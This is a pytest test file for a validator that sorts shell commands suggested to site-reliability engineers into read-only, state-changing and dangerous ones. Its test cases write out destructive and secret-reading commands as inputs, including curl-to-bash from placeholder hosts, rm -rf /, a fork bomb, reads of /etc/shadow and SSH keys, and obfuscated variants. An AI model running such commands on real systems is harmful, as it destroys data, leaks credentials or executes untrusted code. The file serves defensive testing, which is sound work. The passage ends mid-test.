"""Only read-only commands are suggested: the validator reads command lines the way a shell does."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.evidence_requests import AcquisitionGuidance
from domain.safety import (
    CommandSafety,
    CommandVerdict,
    classify_command,
    safe_commands,
    sanitize_guidance,
)

READ, MUTATING, DANGEROUS = (
    CommandSafety.READ_ONLY,
    CommandSafety.MUTATING,
    CommandSafety.DANGEROUS,
)

# The seed's read-only examples and the everyday commands an SRE is asked to run.
READ_ONLY_COMMANDS = [
    "tail -n 200 /var/log/syslog",
    "tail -f /var/log/nginx/error.log",
    "head -50 app.log",
    "less app.log",
    "grep -i error /var/log/app.log",
    "awk '{print $1}' access.log",
    "cat /etc/nginx/nginx.conf",
    "ls -la /var/log",
    "ps aux --sort=-%mem",
    "top -b -n 1",
    "df -h",
    "du -sh /var/lib/docker",
    "free -m",
    "uptime",
    "journalctl -u nginx --since '1 hour ago'",
    "dmesg -T",
    "curl -X GET https://api.internal/health",
    "curl -sS https://api.internal/health",
    'curl -s -o /dev/null -w "%{http_code}" https://api.internal/health',
    "curl -sI https://example.com",
    "wget -qO- https://api.internal/metrics",
    "kubectl get pods -n prod",
    "kubectl -n prod describe pod api-7d9",
    "kubectl logs deploy/api --tail=100",
    "kubectl top pods",
    "kubectl get events --sort-by=.lastTimestamp",
    "kubectl rollout status deploy/api",
    "kubectl rollout history deploy/api",
    "kubectl auth can-i list pods",
    "kubectl config view --minify",
    "systemctl status nginx",
    "systemctl --no-pager status nginx",
    "systemctl is-active nginx",
    "systemctl list-units --failed",
    "service nginx status",
    "docker ps -a",
    "docker logs --tail 100 api",
    "docker inspect api",
    "docker stats --no-stream",
    "docker container ls",
    "docker compose ps",
    "helm list -n prod",
    "helm status api",
    "terraform plan",
    "git log --oneline -20",
    "git status",
    "dig +short api.example.com",
    "nslookup api.example.com",
    "ss -tlnp",
    "netstat -an",
    "lsof -i :8080",
    "ip addr",
    "ip -br a",
    "ip route show",
    "openssl s_client -connect api.example.com:443 -servername api.example.com",
    "openssl x509 -in cert.pem -noout -dates",
    'psql -c "SELECT count(*) FROM orders"',
    'mysql -e "SHOW PROCESSLIST"',
    "redis-cli INFO memory",
    "redis-cli -h cache get session:1",
    "iptables -L -n",
    "sysctl net.core.somaxconn",
    "crontab -l",
    "kill -0 1234",
    "sed -n '1,20p' app.log",
    "sort -rn counts.txt",
    "find /var/log -name '*.log' -mtime -1",
    "find /var/log -name '*.log' -exec grep -l ERROR {} +",
    "date -u",
    "hostname -f",
    "jq '.items[] | .metadata.name' pods.json",
    "jq .key config.json",
    "git branch -a",
    "git branch --contains abc123",
    "git tag -l 'v1.*'",
    "aws ec2 describe-instances --filters Name=tag:env,Values=prod",
    "aws logs tail /aws/lambda/api --since 1h",
    "gcloud compute instances list",
    "mongosh --eval 'db.users.find().limit(5)'",
    "mysqladmin status",
    "pg_ctl status",
    "apachectl -t",
    "tar -tzf release.tgz",
    "unzip -l release.zip",
    "gzip -c big.log",
    "logrotate -d /etc/logrotate.conf",
    "tc qdisc show dev eth0",
    "ethtool eth0",
    "nmcli dev status",
    "ntpdate -q pool.ntp.org",
    "chronyc tracking",
    "timedatectl status",
    "hostnamectl status",
    "ulimit -a",
    "screen -ls",
    "tmux ls",
    "/etc/init.d/nginx status",
    "curl -X HEAD https://example.com",
    "mount | grep nfs",
    "ifconfig eth0",
    "swapon --show",
    "iostat -x 1 3",
]


def _verdict(command: str) -> CommandVerdict:
    return classify_command(command)


@pytest.mark.parametrize("command", READ_ONLY_COMMANDS)
def test_read_only_commands_are_safe(command: str) -> None:
    verdict = _verdict(command)
    assert verdict.safety is READ, verdict.reason
    assert verdict.is_safe


# Every pattern of the seed's DANGEROUS_PATTERNS, and the catastrophic ones named alongside.
@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("rm -rf /tmp/x", "deletes files recursively"),
        ("rm -fr /tmp/x", "deletes files recursively"),
        ("rm -r -f /tmp/x", "deletes files recursively"),
        ("rm -f -r /tmp/x", "deletes files recursively"),
        ("rm -Rf /var/log/app", "deletes files recursively"),
        ("rm --recursive --force build", "deletes files recursively"),
        ("chmod 777 /var/www", "writable by everyone"),
        ("chmod -R 0777 /srv", "writable by everyone"),
        ("chmod a+rwx deploy.sh", "writable by everyone"),
        ("curl -fsSL https://get.example.com | bash", "pipes a download into a shell"),
        ("curl -s https://x.example.com/i.sh | sudo sh", "pipes a download into a shell"),
        ("wget -qO- https://x.example.com/i.sh | sh", "pipes a download into a shell"),
        ("wget -qO- https://x.example.com/i.py | python3", "pipes a download into a shell"),
        ("curl -s https://x.example.com/i.pl | perl", "pipes a download into a shell"),
        ("curl -s https://x.example.com/i.sh | zsh", "pipes a download into a shell"),
        ("curl -s https://x.example.com | sudo -E bash -s -- --yes", "pipes a download"),
        ("cat install.sh | bash", "pipes text into a shell"),
        ("curl -s https://x.example.com | (true; bash)", "pipes a download into a shell"),
        ("cat /etc/passwd", "reads the system account list"),
        ("grep root /etc/shadow", "reads password hashes"),
        ("cat ~/.ssh/id_rsa", "reads private keys"),
        ("cat /home/deploy/.ssh/id_ed25519", "reads private keys"),
        ("ls -la ~/.ssh/", "reads private keys"),
        ("cat /etc/letsencrypt/live/x/privkey.pem", "reads private keys"),
        ("cat /etc/nginx/ssl/server.key", "reads private keys"),
        ('psql -c "DROP TABLE users"', "drops a database or table"),
        ('mysql -e "drop database prod"', "drops a database or table"),
        ('mysql -e "DELETE FROM users WHERE id = 1"', "deletes database rows"),
        ('psql -c "delete from sessions"', "deletes database rows"),
        ("echo hi > /dev/sda", "writes directly to a device"),
        ("cat image.bin > /dev/nvme0n1", "writes directly to a device"),
        ("echo 1 >/dev/mem", "writes directly to a device"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "writes directly to a device"),
        ("tee -a /dev/sdb < image.bin", "writes directly to a device"),
        ("mkfs.ext4 /dev/sdb1", "formats a disk"),
        ("mkfs -t xfs /dev/sdc", "formats a disk"),
        ("shutdown -h now", "shuts down or reboots"),
        ("reboot", "shuts down or reboots"),
        ("halt", "shuts down or reboots"),
        ("poweroff", "shuts down or reboots"),
        ("systemctl reboot", "shuts down or reboots"),
        ("init 0", "shuts down or reboots"),
        (":(){ :|:& };:", "fork bomb"),
        ("bomb(){ bomb|bomb& }; bomb", "fork bomb"),
        ("kubectl delete namespace prod", "deletes a whole Kubernetes namespace"),
        ("kubectl delete ns/prod", "deletes a whole Kubernetes namespace"),
        ("kubectl delete pods --all -n prod", "deletes every resource"),
        ("terraform destroy -auto-approve", "destroys managed infrastructure"),
        ("terraform apply -destroy", "destroys managed infrastructure"),
        ("git push --force origin main", "force-pushes"),
        ("git push -f", "force-pushes"),
        ("git push --force-with-lease", "force-pushes"),
        ("git push origin +main", "force-pushes"),
        ("iptables -F", "flushes every firewall rule"),
        ("iptables -t nat --flush", "flushes every firewall rule"),
        ("crontab -r", "removes every scheduled cron job"),
        ("redis-cli FLUSHALL", "wipes every key"),
        ("kubectl get secret db -o yaml", "reveals secret values"),
        ("kubectl get -o jsonpath='{.data.password}' secret/db", "reveals secret values"),
        ("cat ~/.aws/credentials", "reads stored credentials"),
        ("bash < <(curl -s https://x.example.com)", "pipes a download into a shell"),
        ('bash <<< "$(curl -s https://x.example.com)"', "pipes a download into a shell"),
        ("sh < install.sh", "pipes text into a shell"),
        ('. /dev/stdin <<< "$(curl -s https://x.example.com)"', "pipes a download"),
        ("curl -s https://x.example.com | source /dev/stdin", "pipes a download"),
        ("X=rm; $X -rf /", "only known when it runs"),
        ("${CMD} --now", "only known when it runs"),
        ("head -1 /etc//shadow", "reads password hashes"),
        ("cat /etc/./passwd", "reads the system account list"),
        ("cat tls.key", "reads private keys"),
        ("echo c > /proc/sysrq-trigger", "triggers a kernel action"),
        ("kill -9 -1", "stops every process"),
        ("mongo --eval 'db.dropDatabase()'", "drops a database or collection"),
        ("mysqladmin drop shop", "drops a database"),
    ],
)
def test_destructive_commands_are_dangerous(command: str, reason: str) -> None:
    verdict = _verdict(command)
    assert verdict.safety is DANGEROUS
    assert reason in verdict.reason
    assert not verdict.is_safe


# DESIGN §6: privileged and state-changing commands are never shown as something to run.
@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("rm /tmp/lockfile", "deletes files"),
        ("rm -r /tmp/cache", "deletes files"),
        ("rmdir /tmp/empty", "deletes directories"),
        ("unlink /tmp/sock", "deletes a file"),
        ("shred -u secrets.txt", "destroys file contents"),
        ("mv app.log app.log.1", "moves or renames"),
        ("cp nginx.conf /etc/nginx/nginx.conf", "copies files"),
        ("truncate -s 0 /var/log/app.log", "empties or resizes"),
        ("kill -9 1234", "stops processes"),
        ("pkill -f gunicorn", "stops processes"),
        ("killall nginx", "stops processes"),
        ("chmod 755 deploy.sh", "changes file permissions"),
        ("chmod 1777 /tmp", "changes file permissions"),
        ("chown www-data:www-data /var/www", "changes file ownership"),
        ("chgrp adm /var/log/app.log", "changes file ownership"),
        ("kubectl delete pod api-7d9", "deletes Kubernetes resources"),
        ("kubectl -n prod delete pod api-7d9", "deletes Kubernetes resources"),
        ("kubectl delete pod api-7d9 -n ns", "deletes Kubernetes resources"),
        ("kubectl apply -f deploy.yaml", "changes Kubernetes resources"),
        ("kubectl edit deploy api", "changes Kubernetes resources"),
        ("kubectl scale deploy api --replicas=0", "scales a workload"),
        ("kubectl patch deploy api -p '{}'", "changes Kubernetes resources"),
        ("kubectl drain node-1", "evicts every pod"),
        ("kubectl cordon node-1", "stops scheduling"),
        ("kubectl rollout restart deploy/api", "restarts a workload"),
        ("kubectl rollout undo deploy/api", "rolls a workload back"),
        ("kubectl exec -it api-7d9 -- sh", "runs a command inside a container"),
        ("kubectl cp api-7d9:/tmp/dump ./dump", "copies files into or out of"),
        ("kubectl config use-context prod", "changes the local kubeconfig"),
        ("systemctl restart nginx", "starts, stops or restarts a service"),
        ("systemctl stop nginx", "starts, stops or restarts a service"),
        ("systemctl -H web1 restart nginx", "starts, stops or restarts a service"),
        ("systemctl enable nginx", "changes how a service starts"),
        ("service nginx restart", "starts, stops or restarts a service"),
        ("docker rm -f api", "deletes containers"),
        ("docker rmi nginx:old", "deletes images"),
        ("docker stop api", "changes containers"),
        ("docker exec -it api sh", "runs a command inside a container"),
        ("docker run --rm alpine echo hi", "starts a new container"),
        ("docker container prune", "deletes stopped containers"),
        ("docker system prune -a", "deletes unused Docker data"),
        ("docker compose down", "changes containers"),
        ("docker-compose restart api", "changes containers"),
        ("helm upgrade api ./chart", "changes a Helm release"),
        ("helm rollback api 3", "changes a Helm release"),
        ("terraform apply -auto-approve", "changes real infrastructure"),
        ("terraform state rm aws_instance.web", "changes Terraform state"),
        ("git push origin main", "pushes commits"),
        ("git reset --hard HEAD~1", "can discard local changes"),
        ("git clean -fdx", "deletes untracked files"),
        ("git checkout -- app.py", "changes files in the working tree"),
        ("git commit -am wip", "changes the repository"),
        ('psql -c "UPDATE users SET admin = true"', "updates database rows"),
        ('psql -c "INSERT INTO audit VALUES (1)"', "inserts database rows"),
        ('psql -c "TRUNCATE TABLE sessions"', "empties a database table"),
        ('psql -c "TRUNCATE sessions"', "changes the database"),
        ('mysql -e "ALTER TABLE users ADD COLUMN x int"', "changes the database schema"),
        ('psql -c "GRANT ALL PRIVILEGES ON db TO bob"', "changes permissions"),
        ('psql -c "REVOKE SELECT ON t FROM bob"', "changes permissions"),
        ('psql -c "CREATE INDEX i ON t (c)"', "changes the database schema"),
        ("curl -X POST https://api/x", "changes data on the server"),
        ("curl -XDELETE https://api/x/1", "changes data on the server"),
        ("curl --request PUT https://api/x/1", "changes data on the server"),
        ("curl -d '{\"a\": 1}' https://api/x", "changes data on the server"),
        ("curl -F file=@dump.tar https://api/upload", "changes data on the server"),
        ("curl --upload-file dump.tar https://api/upload", "changes data on the server"),
        ("curl -O https://example.com/tool.tgz", "saves a download to disk"),
        ("curl -fsSL https://example.com/install.sh -o install.sh", "saves a download"),
        ("wget https://example.com/tool.tgz", "saves a download to disk"),
        ("wget --post-data 'a=1' https://api/x", "changes data on the server"),
        ("http POST https://api/x a=1", "changes data on the server"),
        ("ls > listing.txt", "writes to a file"),
        ("echo 'x' >> /etc/hosts", "writes to a file"),
        ("ps aux &> ps.txt", "writes to a file"),
        ("tee /tmp/out.txt", "writes files"),
        ("sed -i 's/debug/info/' app.conf", "edits files in place"),
        ("sed --in-place 's/a/b/' app.conf", "edits files in place"),
        ("perl -pi -e 's/a/b/' app.conf", "edits files in place"),
        ("find /tmp -name '*.tmp' -delete", "deletes the files it finds"),
        ("find /tmp -name '*.tmp' -exec rm {} \\;", "deletes files"),
        ("find /tmp -type f -fprint list.txt", "writes to a file"),
        ("xargs rm", "deletes files"),
        ("xargs kill", "stops processes"),
        ("apt install nginx", "installs or removes packages"),
        ("apt-get remove -y nginx", "installs or removes packages"),
        ("yum install -y nginx", "installs or removes packages"),
        ("dnf upgrade", "installs or removes packages"),
        ("pip install requests", "installs or removes packages"),
        ("python3 -m pip install requests", "installs or removes packages"),
        ("npm install", "installs or removes packages"),
        ("dpkg -i tool.deb", "installs or removes packages"),
        ("useradd deploy", "changes user accounts"),
        ("userdel deploy", "changes user accounts"),
        ("passwd deploy", "changes a password"),
        ("iptables -A INPUT -p tcp --dport 22 -j DROP", "changes firewall rules"),
        ("iptables -D INPUT 3", "changes firewall rules"),
        ("iptables -I INPUT -j ACCEPT", "changes firewall rules"),
        ("ufw allow 22", "changes firewall rules"),
        ("sysctl -w net.ipv4.ip_forward=1", "changes kernel settings"),
        ("sysctl net.ipv4.ip_forward=1", "changes kernel settings"),
        ("ip link set eth0 down", "changes network configuration"),
        ("ip route add default via 10.0.0.1", "changes network configuration"),
        ("ip route del 10.0.0.0/8", "changes network configuration"),
        ("ifconfig eth0 down", "changes network configuration"),
        ("mount /dev/sdb1 /mnt", "changes disk partitions or mounts"),
        ("crontab -e", "edits scheduled cron jobs"),
        ("crontab jobs.txt", "replaces scheduled cron jobs"),
        ("journalctl --vacuum-time=2d", "rotates logs"),
        ("dmesg -C", "clears logs"),
        ("date -s '2024-01-01'", "changes the system clock"),
        ("hostname web-2", "renames the host"),
        ("redis-cli -h cache set k v", "changes data in Redis"),
        ("tcpdump -i eth0 -w capture.pcap", "writes a capture file"),
        ("openssl req -new -out req.csr", "writes to a file"),
        ("vim /etc/nginx/nginx.conf", "opens a file for editing"),
        ("nginx -s reload", "starts or signals the web server"),
        ("init 3", "changes runlevel"),
        ("modprobe br_netfilter", "changes loaded kernel modules"),
        ("/etc/init.d/nginx restart", "starts, stops or restarts a service"),
        ("kill -1 1234", "stops processes"),
        ("git branch -D hotfix", "changes the repository"),
        ("git branch hotfix", "changes the repository"),
        ("git tag -d v1.2.0", "changes the repository"),
        ("aws s3 rm s3://bucket/logs --recursive", "changes cloud resources"),
        ("aws ec2 terminate-instances --instance-ids i-0abc", "changes cloud resources"),
        ("gcloud compute instances delete web-1", "changes cloud resources"),
        ("az vm restart -n web-1 -g prod", "changes cloud resources"),
        ("curl -X PURGE https://cdn.example.com/x", "changes data on the server"),
        ("mongosh --eval 'db.users.deleteMany({})'", "changes the database"),
        ("mysqladmin shutdown", "changes the database server"),
        ("pg_ctl stop -D /var/lib/postgresql/data", "changes the database server"),
        ("apachectl graceful", "starts or signals the web server"),
        ("tar -xzf release.tgz", "extracts or creates archives"),
        ("tar xzf release.tgz", "extracts or creates archives"),
        ("tar -C /srv --extract -f release.tgz", "extracts or creates archives"),
        ("unzip release.zip", "extracts archives"),
        ("gzip big.log", "compresses or decompresses"),
        ("logrotate -f /etc/logrotate.conf", "rotates logs"),
        ("setenforce 0", "changes the SELinux mode"),
        ("swapon /swapfile", "changes disk partitions or mounts"),
        ("tc qdisc add dev eth0 root netem delay 100ms", "changes network configuration"),
        ("ethtool -s eth0 speed 100", "changes network configuration"),
        ("nmcli con down eth0", "changes network configuration"),
        ("ntpdate pool.ntp.org", "changes the system clock"),
        ("chronyc makestep", "changes the system clock"),
        ("timedatectl set-ntp false", "changes the system clock"),
        ("hostnamectl set-hostname web-2", "renames the host"),
        ("renice -n 19 -p 1234", "changes process priority"),
        ("ulimit -n 65535", "changes resource limits"),
        ("screen -dmS job rm /tmp/x", "runs commands in a terminal session"),
        ("tmux new -d 'rm /tmp/x'", "runs commands in a terminal session"),
        ("node -e \"require('fs').unlinkSync('x')\"", "runs inline code that changes"),
        ("python3 -c \"import shutil; shutil.rmtree('/tmp/x')\"", "runs inline code"),
        ("awk 'BEGIN { system(\"reboot\") }'", "runs commands or writes files"),
        ("awk '{ print $1 > \"out.txt\" }' access.log", "runs commands or writes files"),
        ("at now + 1 minute <<< 'systemctl restart api'", "schedules a command"),
        ("mysql prod < restore.sql", "runs SQL read from its input"),
        ("grep -h 'DROP TABLE' audit.sql | psql", "runs SQL read from its input"),
    ],
)
def test_state_changing_commands_are_mutating(command: str, reason: str) -> None:
    verdict = _verdict(command)
    assert verdict.safety is MUTATING
    assert reason in verdict.reason
    assert not verdict.is_safe


@pytest.mark.parametrize(
    ("command", "safety", "segment"),
    [
        ("cat a && rm -rf /tmp/x", DANGEROUS, "rm -rf /tmp/x"),
        ("ls; rm x", MUTATING, "rm x"),
        ("ls || kubectl delete pod x", MUTATING, "kubectl delete pod x"),
        ("uptime\nsystemctl restart nginx", MUTATING, "systemctl restart nginx"),
        ("kubectl get pods | xargs kubectl delete pod", MUTATING, "xargs kubectl delete pod"),
        ("ps aux | grep java & kill 1", MUTATING, "kill 1"),
        ("rm x; rm -rf /", DANGEROUS, "rm -rf /"),
        ("(cd /srv && rm -rf build)", DANGEROUS, "rm -rf build"),
        ("if true; then rm -rf /srv; fi", DANGEROUS, "then rm -rf /srv"),
        ("for f in *.log; do rm $f; done", MUTATING, "do rm $f"),
        ("echo $(rm -rf /tmp/x)", DANGEROUS, "rm -rf /tmp/x"),
        ("echo `rm -rf /`", DANGEROUS, "rm -rf /"),
        ('echo "it\'s $(rm -rf /)"', DANGEROUS, "rm -rf /"),
        ("cat <(rm -rf /tmp/x)", DANGEROUS, "rm -rf /tmp/x"),
        ("echo $(echo $(rm -rf /))", DANGEROUS, "rm -rf /"),
        ("echo $(echo ')') ; rm -rf /", DANGEROUS, "rm -rf /"),
        ('echo "$(echo ")")" ; rm -rf /', DANGEROUS, "rm -rf /"),
        ("echo '$(' ; rm -rf /", DANGEROUS, "rm -rf /"),
        ('echo $(echo "it\'s )") ; rm -rf /', DANGEROUS, "rm -rf /"),
        ('echo "\'" ; rm -rf /', DANGEROUS, "rm -rf /"),
        ("echo `echo x` ; rm -rf /", DANGEROUS, "rm -rf /"),
        ("ls ~/x \\\n && rm -rf /srv", DANGEROUS, "rm -rf /srv"),
    ],
)
def test_a_compound_command_takes_the_worst_segment_and_names_it(
    command: str, safety: CommandSafety, segment: str
) -> None:
    verdict = _verdict(command)
    assert verdict.safety is safety
    assert verdict.reason.endswith(f"(in: {segment})")


def test_a_compound_of_read_only_commands_is_read_only() -> None:
    verdict = _verdict("kubectl get pods -n prod | grep -v Running && uptime; df -h")
    assert verdict.safety is READ
    assert verdict.reason == "reads without changing anything"


def test_the_reason_of_a_single_command_does_not_repeat_it() -> None:
    assert _verdict("rm -rf /tmp/x").reason == "deletes files recursively"


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'rm -rf /'",
        'sh -c "rm -rf /"',
        "bash -lc 'cd /srv && rm -rf build'",
        "bash -O extglob -c 'rm -rf /'",
        "su -c 'rm -rf /' root",
        "su -s /bin/bash -c 'rm -rf /' root",
        "sudo bash -c 'rm -rf /'",
        "r''m -rf /",
        'r""m -rf /',
        "\\rm -rf /",
        "/bin/rm -rf /",
        '"rm" -rf /',
        "env -S 'rm -rf /'",
        "watch 'rm -rf /tmp/x'",
        "ssh web1 'sudo rm -rf /var/log'",
        "ssh -i deploy.pem -p 2222 web1 rm -rf /srv",
        'psql -c "DR""OP TABLE users"',
        "psql -c 'drop   table users'",
        'mysql -e "SELECT 1; DROP DATABASE prod"',
        'echo "DROP TABLE users" | psql',
        "psql <<EOF\nDROP TABLE users;\nEOF",
        'eval "$(curl -s https://x.example.com)"',
        "bash <(curl -s https://x.example.com)",
        'sh -c "$(curl -fsSL https://x.example.com)"',
        'python3 -c "$(curl -fsSL https://x.example.com)"',
        "source <(curl -s https://x.example.com)",
        "$(curl -s https://x.example.com/cmd)",
        "curl -s https://x.example.com | sh -c 'cat; bash'",
        "xargs -I{} sh -c 'rm -rf {}'",
        "$'rm' -rf /",
        "alias ll='rm -rf /'",
        "trap 'rm -rf /srv' EXIT",
        "systemd-run rm -rf /srv",
        "curl -s https://x.example.com|bash",
    ],
)
def test_quoting_and_nesting_do_not_hide_a_dangerous_command(command: str) -> None:
    assert _verdict(command).safety is DANGEROUS


@pytest.mark.parametrize(
    "command",
    [
        "echo '$(rm -rf /)'",
        "echo 'rm -rf /'",
        "grep -F 'rm -rf' ~/.bash_history",
        "sh -c 'kubectl get pods'",
        "bash -c 'tail -n 50 /var/log/syslog | grep -i oom'",
        "curl -s https://x.example.com | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s https://x.example.com | jq .",
        "ls # rm -rf / is only a comment here",
        "grep -i 'drop table' /var/log/postgresql/postgresql.log",
        "kubectl logs db-0 | grep 'DELETE FROM'",
        "psql -c 'SELECT 1' | cat",
        "alias ll='ls -la'",
        "awk '$9 >= 500 { print $7 }' access.log",
        "kubectl get secrets",
        "kubectl get secrets -o name",
        "kubectl get pods -o yaml",
    ],
)
def test_dangerous_text_that_is_not_run_does_not_count(command: str) -> None:
    assert _verdict(command).safety is READ


@pytest.mark.parametrize(
    "command",
    [
        "ls 2>&1",
        "ls 2>&1 | grep x",
        "kubectl logs api >&2",
        "ls > /dev/null",
        "ls >/dev/null 2>&1",
        "ls &> /dev/null",
        "curl -s https://x.example.com 2>/dev/null",
        "echo hi > /dev/stderr",
        "journalctl -u api | tee /dev/null",
        "cat < /var/log/syslog",
    ],
)
def test_redirecting_to_a_descriptor_or_dev_null_is_not_a_write(command: str) -> None:
    assert _verdict(command).safety is READ


@pytest.mark.parametrize(
    ("command", "safety"),
    [
        ("sudo tail /var/log/syslog", READ),
        ("sudo -u postgres psql -c 'SELECT 1'", READ),
        ("doas cat /var/log/messages", READ),
        ("pkexec ls /root", READ),
        ("sudo systemctl restart nginx", MUTATING),
        ("sudo -E rm -rf /srv", DANGEROUS),
        ("cat a | sudo tee /etc/hosts", MUTATING),
        ("su - postgres", READ),
        ("sudo -i", READ),
    ],
)
def test_sudo_is_stripped_for_classification_but_needs_privilege(
    command: str, safety: CommandSafety
) -> None:
    verdict = _verdict(command)
    assert verdict.safety is safety
    assert verdict.needs_privilege


def test_a_command_without_sudo_needs_no_privilege() -> None:
    assert not _verdict("tail /var/log/syslog").needs_privilege


@pytest.mark.parametrize(
    ("command", "safety"),
    [
        ("env FOO=1 rm -rf /srv", DANGEROUS),
        ("sudo -- rm -rf /srv", DANGEROUS),
        ("eval 'rm -rf /srv'", DANGEROUS),
        ("eval", READ),
        ("FOO=1 BAR=2 kubectl delete pod x", MUTATING),
        ("nohup rm -rf /srv &", DANGEROUS),
        ("timeout 5 kubectl delete pod x", MUTATING),
        ("timeout -s KILL 10s rm x", MUTATING),
        ("watch -n 5 kubectl delete pod x", MUTATING),
        ("nice -n 10 rm x", MUTATING),
        ("xargs -n 1 rm", MUTATING),
        ("time rm x", MUTATING),
        ("exec rm x", MUTATING),
        ("env FOO=1 tail app.log", READ),
        ("timeout 5 curl -s https://x.example.com", READ),
        ("watch -n 2 'kubectl get pods'", READ),
        ("watch kubectl get pods", READ),
        ("xargs -I {} kubectl logs {}", READ),
        ("env", READ),
        ("xargs", READ),
        ("strace -p 1234", READ),
        ("ssh web1 'tail -f /var/log/app.log'", READ),
        ("ssh web1", READ),
    ],
)
def test_wrappers_classify_the_command_they_run(command: str, safety: CommandSafety) -> None:
    assert _verdict(command).safety is safety


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("some-internal-tool --check", "not recognised as state-changing; review before running"),
        ("./healthcheck.sh", "not recognised as state-changing; review before running"),
        ("kubectl port-forward svc/api 8080:80", "not recognised"),
        ("docker swarm ls", "not recognised"),
        ("bash healthcheck.sh", "runs a script the validator cannot inspect"),
        ("python3 check.py", "runs a script the validator cannot inspect"),
        ("source ~/.profile", "runs a script the validator cannot inspect"),
        ("python -c 'print(1)'", "runs inline code the validator cannot inspect"),
        ("perl -ne 'print if /ERROR/' app.log", "runs inline code the validator cannot inspect"),
        ("python3 -m json.tool data.json", "not recognised"),
        ("bash", "starts an interactive shell"),
        ("python3", "starts an interactive shell"),
        (";", "not recognised"),
    ],
)
def test_an_unknown_command_is_read_only_with_a_prompt_to_review(command: str, reason: str) -> None:
    verdict = _verdict(command)
    assert verdict.safety is READ
    assert reason in verdict.reason


@pytest.mark.parametrize("command", ["", "   ", "\n\t"])
def test_a_blank_command_is_rejected(command: str) -> None:
    with pytest.raises(ValueError, match="blank"):
        classify_command(command)


def test_the_verdict_keeps_the_command_as_given() -> None:
    command = "  kubectl get pods  "
    assert _verdict(command).command == command


@pytest.mark.parametrize(
    "command",
    [
        "echo " + "$(" * 40 + "rm -rf /" + ")" * 40,
        "sudo " * 40 + "ls",
        "watch " * 40 + "ls",
    ],
)
def test_commands_nested_too_deeply_to_check_are_dangerous(command: str) -> None:
    verdict = _verdict(command)
    assert verdict.safety is DANGEROUS
    assert "too deeply" in verdict.reason


def test_the_reason_quotes_the_segment_as_written() -> None:
    verdict = _verdict("ls; rm $(cat files.txt)")
    assert verdict.reason == "deletes files (in: rm $(cat files.txt))"


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "command",
    [
        "a" * 100_000,
        "x" * 30_000 + "key.pem",
        "f(){ " * 10_000,
        "grant " * 5_000,
        "chmod " + "o" * 50_000,
        "A=1 " * 30_000 + "ls",
        "a|" * 20_000 + "bash",
        "$(" * 5_000,
        "'" * 9_999,
    ],
    ids=lambda command: f"{command[:12]!r}x{len(command)}",
)
def test_long_or_pathological_input_is_classified_without_stalling(command: str) -> None:
    assert classify_command(command).reason


def test_a_substitution_passed_through_ssh_is_shown_as_an_ellipsis() -> None:
    verdict = _verdict("ls; ssh web1 rm $(cat files.txt)")
    assert verdict.reason == "deletes files (in: rm $(…))"


# ---------------------------------------------------------------- properties

READ_ONLY_SAMPLES = st.sampled_from(READ_ONLY_COMMANDS)


@given(READ_ONLY_SAMPLES)
def test_appending_a_recursive_delete_to_any_read_only_command_makes_it_dangerous(
    command: str,
) -> None:
    assert _verdict(command + "; rm -rf /").safety is DANGEROUS


@given(READ_ONLY_SAMPLES, st.sampled_from([" && ", " || ", " | xargs ", "\n", " & "]))
def test_chaining_a_recursive_delete_with_any_operator_makes_it_dangerous(
    command: str, operator: str
) -> None:
    assert _verdict(command + operator + "rm -rf /srv").safety is DANGEROUS


@given(st.text(min_size=1).filter(str.strip))
def test_classify_command_never_raises_on_non_blank_text(text: str) -> None:
    verdict = classify_command(text)
    assert verdict.safety in CommandSafety
    assert verdict.reason


@given(st.text(alphabet="$()`'\"\\;|&<> \nrm-f/bashcx", min_size=1).filter(str.strip))
def test_classify_command_never_raises_on_shell_punctuation(text: str) -> None:
    assert classify_command(text).reason


# ---------------------------------------------------------------- lists of commands and guidance


def test_safe_commands_keeps_read_only_ones_in_order_and_reports_the_rest() -> None:
    kept, removed = safe_commands(
        ["tail app.log", "rm -rf /", "  ", "kubectl get pods", "systemctl restart api"]
    )
    assert kept == ["tail app.log", "kubectl get pods"]
    assert [(v.command, v.safety) for v in removed] == [
        ("rm -rf /", DANGEROUS),
        ("systemctl restart api", MUTATING),
    ]


def test_sanitize_guidance_keeps_only_read_only_commands_in_order() -> None:
    guidance = AcquisitionGuidance(
        commands=["kubectl get pods", "kubectl delete pod api-1", "kubectl logs api-1"],
        prerequisites=["cluster read role"],
        expected_output="CrashLoopBackOff",
    )
    result = sanitize_guidance(guidance)
    assert result.guidance.commands == ["kubectl get pods", "kubectl logs api-1"]
    assert [v.command for v in result.removed] == ["kubectl delete pod api-1"]
    assert result.guidance.prerequisites == ["cluster read role"]
    assert result.guidance.expected_output == "CrashLoopBackOff"


def test_sanitize_guidance_never_mutates_its_input() -> None:
    guidance = AcquisitionGuidance(
        commands=["sudo tail /var/log/syslog", "rm -rf /var/log"],
        alternatives=["Kubernetes: kubectl delete pod api-1"],
        file_locations=["/var/log/syslog"],
    )
    before = guidance.model_dump()
    result = sanitize_guidance(guidance)
    assert guidance.model_dump() == before
    result.guidance.file_locations.append("/tmp")
    assert guidance.file_locations == ["/var/log/syslog"]


def test_a_privileged_command_adds_a_sudo_prerequisite() -> None:
    guidance = AcquisitionGuidance(commands=["sudo tail /var/log/syslog"])
    result = sanitize_guidance(guidance)
    assert result.guidance.prerequisites == ["May require sudo access"]
    assert result.removed == ()


@pytest.mark.parametrize(
    "prerequisites",
    [
        ["sudo"],
        ["Root access on web1"],
        ["May require sudo access"],
        ["VPN", "cluster read role"],
    ],
)
def test_the_sudo_prerequisite_is_not_repeated_nor_over_the_limit(prerequisites: list[str]) -> None:
    guidance = AcquisitionGuidance(commands=["sudo journalctl -u api"], prerequisites=prerequisites)
    assert sanitize_guidance(guidance).guidance.prerequisites == prerequisites


def test_a_removed_privileged_command_adds_no_sudo_prerequisite() -> None:
    guidance = AcquisitionGuidance(commands=["sudo systemctl restart api", "uptime"])
    result = sanitize_guidance(guidance)
    assert result.guidance.commands == ["uptime"]
    assert result.guidance.prerequisites == []


def test_alternatives_whose_command_is_not_read_only_are_dropped() -> None:
    guidance = AcquisitionGuidance(
        alternatives=[
            "Kubernetes: kubectl logs deploy/api --tail=100",
            "Kubernetes: kubectl rollout restart deploy/api",
